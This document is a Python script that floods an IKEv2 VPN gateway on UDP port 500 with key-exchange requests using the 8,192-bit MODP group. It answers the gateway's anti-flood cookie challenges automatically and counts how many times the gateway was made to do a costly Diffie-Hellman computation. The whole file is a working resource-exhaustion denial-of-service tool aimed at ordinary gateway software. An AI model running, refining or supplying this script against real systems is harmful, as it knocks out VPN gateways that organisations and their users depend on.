"""A stranger who makes a gateway compute: first messages of IKEv2 with a group of 8,192 bits, cookies brought back.

exchanger.py TO COUNT RATE   COUNT negotiations with UDP 500 of TO, RATE a second; says how many were answered with a KE
"""
import os
import select
import socket
import struct
import sys
import time

SA, KE, NONCE, NOTIFY, COOKIE = 33, 34, 40, 41, 16390


def transform(last, kind, number, attribute=b""):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attribute), kind, 0, number) + attribute


def payload(following, body):
    return struct.pack("!BBH", following, 0, 4 + len(body)) + body


def message(spi, public, nonce, cookie=None):
    # AES-CBC of 256 bits, HMAC-SHA2-256 as PRF and integrity, MODP 8192.
    transforms = (transform(False, 1, 12, struct.pack("!HH", 0x800E, 256)) + transform(False, 2, 5)
                  + transform(False, 3, 12) + transform(True, 4, 18))
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 4) + transforms
    body = payload(KE, proposal) + payload(NONCE, struct.pack("!HH", 18, 0) + public) + payload(0, nonce)
    first = SA
    if cookie is not None:
        body = payload(SA, struct.pack("!BBH", 0, 0, COOKIE) + cookie) + body
        first = NOTIFY
    return spi + bytes(8) + struct.pack("!BBBBII", first, 0x20, 34, 0x08, 0, 28 + len(body)) + body


def cookie_in(answer):
    if len(answer) > 36 and answer[16] == NOTIFY and struct.unpack("!H", answer[34:36])[0] == COOKIE:
        return answer[36:28 + struct.unpack("!H", answer[30:32])[0]]
    return None


def main(to, count, rate):
    out = {}
    answered = 0
    for n in range(int(count)):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.connect((to, 500))
        # A public value below the prime, whatever follows its first octet.
        out[s] = os.urandom(8), b"\x01" + os.urandom(1023), os.urandom(32)
        s.send(message(*out[s]))
        until = time.monotonic() + 1 / float(rate)
        last = n == int(count) - 1
        while (left := until - time.monotonic()) > 0 or last:
            # The last answers may take a while.
            ready, _, _ = select.select(list(out), [], [], 5 if last else left)
            for s in ready:
                answer = s.recv(65535)
                cookie = cookie_in(answer)
                if cookie is not None:
                    s.send(message(*out[s], cookie))
                    continue
                answered += answer[16] == SA
                del out[s]
            if last and not (ready and out):
                break
    print(answered, "answered", flush=True)


main(*sys.argv[1:])
